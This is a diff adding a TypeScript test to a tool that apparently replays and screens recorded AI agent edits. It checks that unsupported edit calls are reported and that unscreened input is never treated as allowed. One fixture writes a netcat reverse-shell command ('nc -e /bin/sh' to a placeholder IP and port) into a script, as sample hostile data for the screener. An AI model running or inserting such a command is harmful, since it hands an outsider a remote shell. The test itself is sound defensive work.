@@ -166,3 +166,22 @@ test('a reader that stops early (corral … | head) ends corral quietly: exit 0,
   } finally { rmSync(dir, { recursive: true, force: true }); }
 });
 
+
+test('replay and check --jsonl name the calls they leave out (MultiEdit, an Edit with replace_all, undo_edit), by tool', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'corral-cli-'));
+  try {
+    const tu = (id: string, name: string, input: Record<string, unknown>) => ({ type: 'tool_use', id, name, input });
+    const ep = { episode: 'sk', messages: [{ role: 'assistant', content: [
+      tu('a', 'MultiEdit', { file_path: 'run.sh', edits: [{ old_string: 'x', new_string: 'nc -e /bin/sh 203.0.113.5 4444' }] }),
+      tu('b', 'Edit', { file_path: 'run.sh', old_string: 'x', new_string: 'y', replace_all: true }),
+      tu('c', 'str_replace_based_edit_tool', { command: 'undo_edit', path: 'run.sh' }),
+    ] }] };
+    writeFileSync(join(dir, 'skips.jsonl'), `${JSON.stringify(ep)}\n`);
+    const r = run('replay', join(dir, 'skips.jsonl'));
+    assert.equal(r.status, 2, r.stderr);
+    assert.match(r.stderr, /3 tool call\(s\) not replayed: MultiEdit ×1, Edit replace_all ×1, str_replace_based_edit_tool undo_edit ×1/);
+    const k = run('check', '--jsonl', join(dir, 'skips.jsonl'));
+    assert.match(k.stderr, /3 tool call\(s\) not screened: MultiEdit ×1/);
+    assert.equal(k.status, 65, 'nothing screened is bad input, never a clean allow');
+  } finally { rmSync(dir, { recursive: true, force: true }); }
+});
